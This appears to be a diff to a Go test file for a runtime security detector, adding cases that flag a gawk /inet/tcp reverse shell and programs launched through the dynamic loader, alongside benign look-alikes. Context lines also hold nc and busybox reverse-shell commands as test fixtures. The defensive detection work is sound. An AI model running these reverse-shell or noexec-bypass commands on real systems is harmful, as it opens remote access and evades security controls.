@@ -89,6 +89,7 @@ func scenarios() []scenario {
 		preload    = "Dynamic linker preload file written"
 		history    = "Shell history truncated or removed"
 		ldPre      = "LD_PRELOAD set for a program"
+		loaderRun  = "Program run through the dynamic loader"
 		wx         = "Memory made writable and executable"
 		keySearch  = "Private keys or cloud secrets searched for"
 		persistCmd = "Persistence command"
@@ -186,6 +187,10 @@ func scenarios() []scenario {
 			evs(execEv(proc("busybox", "/bin/busybox", "busybox", "nc", "10.0.0.9", "4444", "-e", "/bin/sh"))), nil},
 		scenario{"nc -e with combined flags is a reverse shell", relay, true,
 			evs(execEv(proc("nc", "/usr/bin/nc.traditional", "nc", "-lvnpe", "/bin/sh", "4444"))), nil},
+		scenario{"gawk opening a /inet/tcp network file is a reverse shell", relay, true,
+			evs(execEv(proc("gawk", "/usr/bin/gawk", "awk", "BEGIN {s = \"/inet/tcp/0/10.0.0.9/4444\"; while (1) {s |& getline c; print c}}"))), nil},
+		scenario{"awk summing a column is not", relay, false,
+			evs(execEv(proc("awk", "/usr/bin/mawk", "awk", "{s += $1} END {print s}"))), nil},
 		scenario{"socat forwarding a port to a backend is not", relay, false,
 			evs(execEv(proc("socat", "/usr/bin/socat", "socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"))), nil},
 		scenario{"nc probing a port is not", relay, false,
@@ -257,6 +262,9 @@ func scenarios() []scenario {
 			evs(writeEv(scriptW, "/app/run.sh", inCtr), execEv(script, inCtr, filename("/app/run.sh"), after(time.Second))), []int{0, 1}},
 		scenario{"a writer renamed dpkg is not a package manager", newBin, true,
 			evs(writeEv(fakeDpkg, "/tmp/miner", inCtr), execEv(fakeOut, inCtr, after(time.Second))), []int{0, 1}},
+		scenario{"a written file run as an argument of the dynamic loader is a new binary", newBin, true,
+			evs(writeEv(curl, "/tmp/x", inCtr), execEv(proc("ld-linux-x86-64", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+				"/lib64/ld-linux-x86-64.so.2", "/tmp/x"), inCtr, after(time.Second))), []int{0, 1}},
 		scenario{"a binary from the image executed is not new", newBin, false,
 			evs(execEv(proc("nginx", "/usr/sbin/nginx", "nginx"), inCtr)), nil},
 		scenario{"a binary dpkg installed and then ran is not new", newBin, false,
@@ -526,6 +534,18 @@ func scenarios() []scenario {
 		scenario{"a JIT flipping code to read-execute is not", wx, false, evs(mprotectEv(proc("python3", "/usr/bin/python3", "python3"), 5)), nil},
 		scenario{"java's code cache is not", wx, false, evs(mprotectEv(proc("java", "/usr/lib/jvm/java-17/bin/java", "java"), 7)), nil},
 		scenario{"a failed mprotect is not", wx, false, evs(mprotectEv(proc("ld", "/tmp/ld", "./ld"), 7, failed("EACCES", 13))), nil},
+	)
+
+	ld := "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
+	add(
+		scenario{"a binary on a noexec mount run through ld.so", loaderRun, true,
+			evs(execEv(proc("ld-linux-x86-64", ld, "/lib64/ld-linux-x86-64.so.2", "/dev/shm/x"))), nil},
+		scenario{"a musl loader running a program", loaderRun, true,
+			evs(execEv(proc("ld-musl-x86_64.", "/lib/ld-musl-x86_64.so.1", "/lib/ld-musl-x86_64.so.1", "/tmp/p"), inCtr)), nil},
+		scenario{"ldd tracing a binary's libraries is not", loaderRun, false,
+			evs(execEv(withParents(proc("ld-linux-x86-64", ld, "/lib64/ld-linux-x86-64.so.2", "/bin/ls"), anc{"ldd", "/usr/bin/bash"}))), nil},
+		scenario{"ld.so --verify is not", loaderRun, false,
+			evs(execEv(proc("ld-linux-x86-64", ld, "/lib64/ld-linux-x86-64.so.2", "--verify", "/bin/ls"))), nil},
 	)
 
 	// Persistence and discovery.
@@ -933,6 +953,7 @@ var wantType = map[string]string{
 	"Dynamic linker preload file written":                         "DefenseEvasion:Runtime/SuspiciousCommand",
 	"Shell history truncated or removed":                          "DefenseEvasion:Runtime/SuspiciousCommand",
 	"LD_PRELOAD set for a program":                                "DefenseEvasion:Runtime/SuspiciousCommand",
+	"Program run through the dynamic loader":                      "DefenseEvasion:Runtime/SuspiciousCommand",
 	"Memory made writable and executable":                         "DefenseEvasion:Runtime/MemoryMarkedExecutable",
 	"Private keys or cloud secrets searched for":                  "Discovery:Runtime/SuspiciousCommand",
 	"Persistence command":                                         "Persistence:Runtime/SuspiciousCommand",
